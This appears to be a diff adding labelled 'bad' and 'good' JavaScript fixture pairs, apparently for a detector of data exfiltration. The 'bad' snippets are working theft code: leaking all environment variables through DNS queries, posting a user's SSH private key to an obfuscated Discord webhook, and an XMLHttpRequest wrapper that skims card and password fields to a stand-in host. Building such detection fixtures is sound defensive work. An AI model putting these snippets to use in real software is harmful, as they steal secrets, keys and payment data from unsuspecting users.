@@ -106,3 +106,70 @@ const hook = process.env.DISCORD_WEBHOOK;
 
 module.exports = (content) =>
   fetch(hook, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content }) });
+
+//: bad dns-labels
+const dns = require('dns');
+
+function beat() {
+  const text = Buffer.from(JSON.stringify(process.env)).toString('hex');
+  for (let at = 0; at < text.length; at += 60) {
+    dns.resolve4(`${text.slice(at, at + 60)}.${at}.t.example.invalid`, () => {}); //!
+  }
+}
+
+module.exports = { beat };
+
+//: good dns-labels
+const dns = require('dns');
+
+function check(domains, done) {
+  for (const domain of domains) {
+    dns.resolveMx(domain, (error, records) => done(domain, error ? 0 : records.length));
+  }
+}
+
+module.exports = { check };
+
+//: bad hook-message
+const axios = require('axios');
+const { homedir } = require('os');
+const { readFileSync } = require('fs');
+
+const hook = ['https://discord.com', 'api', 'webhooks', '000', 'x'.repeat(8)].join('/');
+
+module.exports = async () => {
+  const content = readFileSync(`${homedir()}/.ssh/id_rsa`, 'utf8');
+  await axios.post(hook, { username: 'ci', content }); //!
+};
+
+//: good hook-message
+const axios = require('axios');
+const { readFileSync } = require('fs');
+
+const hook = process.env.RELEASE_WEBHOOK;
+
+module.exports = async () => {
+  const content = readFileSync('CHANGELOG.md', 'utf8').split('\n## ')[1];
+  await axios.post(hook, { username: 'releases', content });
+};
+
+//: bad xhr-wrapper
+const { send } = XMLHttpRequest.prototype;
+
+XMLHttpRequest.prototype.send = function (body) {
+  if (typeof body === 'string' && /card|cvv|passw/i.test(body)) {
+    navigator.sendBeacon('https://s.example.invalid/i', btoa(body)); //!
+  }
+  return send.call(this, body);
+};
+
+//: good xhr-wrapper
+const { send } = XMLHttpRequest.prototype;
+
+XMLHttpRequest.prototype.send = function (body) {
+  this.startedAt = performance.now();
+  this.addEventListener('loadend', () => {
+    console.debug(this.responseURL, performance.now() - this.startedAt);
+  });
+  return send.call(this, body);
+};
